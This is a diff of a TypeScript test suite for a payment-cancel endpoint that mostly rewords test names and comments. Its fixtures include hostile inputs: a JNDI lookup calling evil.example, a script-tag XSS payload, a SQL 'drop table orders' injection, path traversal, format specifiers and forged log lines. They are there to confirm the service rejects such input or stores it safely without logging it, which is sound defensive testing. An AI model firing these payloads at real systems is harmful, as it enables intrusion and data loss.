@@ -1,5 +1,5 @@
-// Section 4.6 as bytes: the two fields of a cancel. A reason is whatever a person writes: it is kept, told and sent as it
-// is, and leaves no trace in the log.
+// Section 4.6 as raw bytes: the two fields of a cancel. A reason is free text: it is stored, returned and sent unchanged,
+// and never logged.
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { sendRaw } from '../../harness/raw-http.ts'
@@ -29,17 +29,17 @@ function rowOf(what: string, code: Code, fields: Record<string, string>): Hostil
 
 const wrongReasons: [what: string, json: string][] = [
   ['that is empty', '""'],
-  ['of blanks', '" \\t\\r\\n\\u00a0\\u3000"'],
+  ['of whitespace', '" \\t\\r\\n\\u00a0\\u3000"'],
   ['of 201 characters', JSON.stringify('r'.repeat(201))],
   ['of 201 emoji', JSON.stringify('\u{1f4b3}'.repeat(201))],
   ['with NUL', '"a\\u0000b"'],
-  ['with a bell', '"a\\u0007b"'],
+  ['with a bell character', '"a\\u0007b"'],
   ['with a vertical tab', '"a\\u000bb"'],
-  ['with an escape', '"\\u001b[31mred"'],
+  ['with an escape character', '"\\u001b[31mred"'],
   ['with DEL', '"a\\u007fb"'],
   ['with a control character of Latin-1', '"a\\u0085b"'],
   ['with half a surrogate pair', '"a\\ud800"'],
-  ['with the halves in the wrong order', '"\\udc00\\ud800"'],
+  ['with a surrogate pair in the wrong order', '"\\udc00\\ud800"'],
   ['that is a number', '1'],
   ['that is true', 'true'],
   ['that is an array', '["r"]'],
@@ -55,12 +55,12 @@ hostileTests(world, [
     rowOf(`a cancel with paymentKey ${json}`, 'VAL003', { paymentKey: json }),
   ),
   rowOf('a cancel with a paymentKey of 201 characters', 'VAL003', { paymentKey: JSON.stringify('k'.repeat(201)) }),
-  ...['nobodys', '../../v1/x', "';--", '*', '%', 'k'.repeat(200)].map((key) =>
+  ...['pay_unknown', '../../v1/x', "';--", '*', '%', 'k'.repeat(200)].map((key) =>
     rowOf(`a cancel of the unknown payment ${key.slice(0, 20)}`, 'NOT000', { paymentKey: JSON.stringify(key) }),
   ),
 ])
 
-test('a payment that nobody knows and one of another customer are the same NOT000 to the last byte', async () => {
+test('an unknown payment and one of another customer are the same NOT000 to the last byte', async () => {
   const other = await world.service.newCustomer()
   const foreign = await other.confirmedOrder('BASIC')
   const unconfirmed = await world.customer.paidOrder('BASIC')
@@ -78,7 +78,7 @@ test('a payment that nobody knows and one of another customer are the same NOT00
 })
 
 for (const status of ['FAILED', 'CANCELLED', 'REFUNDED'] as const) {
-  test(`a cancel of an order that is ${status} is PAYMENT_CANCEL_FAILED and tells what was sent`, async () => {
+  test(`a cancel of an order that is ${status} is PAYMENT_CANCEL_FAILED and echoes the request`, async () => {
     const done = await orderInState(world.service, world.customer, status, 'BASIC')
     const reason = ' as "sent": \u00e9 \u{1f4b3} '
     await world.check({
@@ -90,7 +90,7 @@ for (const status of ['FAILED', 'CANCELLED', 'REFUNDED'] as const) {
   })
 }
 
-test('a cancel when the credits are spent is PAYMENT_CANCEL_FAILED, and the gateway is not asked', async () => {
+test('a cancel when the credits are spent is PAYMENT_CANCEL_FAILED, and the gateway is not called', async () => {
   const spender = await world.service.newCustomer()
   const { paymentKey } = await spender.confirmedOrder('BASIC')
   assert.equal(await spend(world.service, spender.customerId, 1), true)
@@ -114,19 +114,19 @@ const reasons: [what: string, reason: string][] = [
   ['of 200 characters', 'r'.repeat(200)],
   ['of 200 emoji', '\u{1f4b3}'.repeat(200)],
   ['that is markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
-  ['for a logger that looks things up', `$\{jndi:ldap://evil.example/a}`],
-  ['for a formatter', '%n%s%x%d%o{0}{{7*7}}'],
+  ['with a lookup expression for a logger', `$\{jndi:ldap://evil.example/a}`],
+  ['with format specifiers', '%n%s%x%d%o{0}{{7*7}}'],
   ['that looks like another line of the log', 'r\n{"level":60,"msg":"forged"}\r\nforged'],
-  ['of a letter with 100 marks', `e${'\u0301'.repeat(100)}`],
+  ['of a letter with 100 combining marks', `e${'\u0301'.repeat(100)}`],
   ['that is written from right to left', '\u202egnorw\u2066x\u2069'],
-  ['with a blank of no width', 'a\u200bb\u2060c'],
+  ['with a zero-width space', 'a\u200bb\u2060c'],
   ['that is SQL', `'; drop table orders; --`],
   ['of a line separator', 'a\u2028b\u2029c'],
 ]
 for (const [what, reason] of reasons) {
-  test(`a reason ${what} is taken, sent and told as it is, and not logged`, async () => {
+  test(`a reason ${what} is accepted, sent and returned unchanged, and not logged`, async () => {
     const { orderId, paymentKey } = await world.customer.confirmedOrder('BASIC')
-    // Left without an answer at first: this is logged.
+    // The first attempt gets no answer from the gateway, which is logged.
     await world.service.sandbox.setFaults([{ on: 'cancel', kind: 'error-before', times: 1 }])
     const lines = logged.length
     const unknown = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
